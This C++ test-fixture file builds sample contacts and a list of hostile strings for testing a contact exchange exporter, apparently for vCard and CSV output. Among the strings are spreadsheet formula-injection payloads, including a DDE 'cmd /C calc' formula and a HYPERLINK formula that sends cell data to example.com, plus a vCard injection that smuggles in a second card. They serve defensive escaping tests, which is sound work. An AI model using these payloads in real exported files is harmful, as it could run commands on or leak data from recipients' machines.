// SPDX-License-Identifier: Apache-2.0
#include "tests/exchange/samples.h"

namespace kith::exchange::test {
namespace {

using namespace std::chrono_literals;
using namespace std::string_literals;

const EventId kEvent(UuidBytes{0x01, 0x92, 0xF0, 0xC1, 0x7A, 0x3E, 0x7B, 0xB2, 0x9D, 0x51, 0, 0, 0, 0, 0, 1});
const ContactId kContact(UuidBytes{0x01, 0x92, 0xF0, 0xC1, 0x7A, 0x3E, 0x7B, 0xB2, 0x9D, 0x51, 0, 0, 0, 0, 0,
                                   2});

std::string Repeated(const std::string& text, int times) {
  std::string result;
  for (int i = 0; i < times; ++i)
    result += text;
  return result;
}

}  // namespace

Contact FullContact() {
  Contact contact;
  contact.id = kContact;
  contact.details.name = {"Dr. Ada van der Example", "Ada", "van der Example"};
  contact.details.organization = "Example, Sons; & Co.";
  contact.details.department = "Gardens";
  contact.details.titles = {"Engineer", "Founder"};
  contact.details.phones = {{"+14155550123", "(415) 555-0123", "12", PhoneType::kWork},
                            {"+14155550124", "", "", PhoneType::kMobile},
                            {"+14155550125", "", "", PhoneType::kFax},
                            {"+14155550126", "", "", PhoneType::kHome},
                            {"555 0127", "555 0127", "", PhoneType::kOther}};
  contact.details.emails = {"ada@example.com", "ada@example.org"};
  contact.details.urls = {"www.example.com/a,b;c", "https://example.org"};
  contact.details.addresses = {"1 Main St, Springfield"};
  contact.details.notes = "Brought cake.\nKnows Max.";
  contact.birthday = Birthday{std::chrono::June / 12, 1984y};
  contact.interests = {"chess", "sailing"};
  contact.event = kEvent;
  contact.met_on = 2026y / 11 / 23;
  contact.created = kNow;
  contact.updated = kNow + 5min;
  return contact;
}

EventNames SampleEvents() {
  return {{kEvent, "Example Meetup, Autumn"}};
}

Contact NamedContact(const std::string& full_name) {
  Contact contact;
  contact.id = MakeId<ContactId>(kNow);
  contact.details.name.full = full_name;
  contact.updated = kNow;
  return contact;
}

std::vector<std::string> NastyTexts() {
  return {"Example, Ada; \"the\" \\ 'first'",
          "Ada\nExample",
          "Ada\r\nExample\rof\vall\fplaces",
          "Ada\xC2\x85"
          "Example\xE2\x80\xA8of\xE2\x80\xA9lines",
          "=HYPERLINK(\"http://example.com?\"&A1,\"click\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(A1:A9)",
          "\t=1+1",
          "\r=1+1",
          "x;=1+1,\"=1+1\n=1+1",
          "\xEF\xBC\x9D"
          "1+1",
          "Ada \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x9A\x80 Example",
          "\xD7\xA2\xD7\x93\xD7\x94 \xD7\x93\xD7\x95\xD7\x92\xD7\x9E\xD7\x94",
          "\xE2\x80\xAE"
          "elpmaxE adA",
          "\xE5\xB1\xB1\xE7\x94\xB0 \xE5\xA4\xAA\xE9\x83\x8E",
          "broken \xC3( \xFF\xFE \xF0\x9F end\xE2\x82",
          "nul\0 and bell\a and escape\x1B[31m"s,
          "BEGIN:VCARD",
          "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Somebody else",
          "END:VEVENT",
          "\\n is not a line break, \\, is not a comma",
          "trailing backslash \\",
          " leading and trailing space ",
          Repeated("\xF0\x9F\x8E\x82", 200),
          Repeated("long line ", 1000),
          Repeated("x", 74) + "\xC3\xA9",
          Repeated(";,\\\"\n", 300)};
}

}  // namespace kith::exchange::test
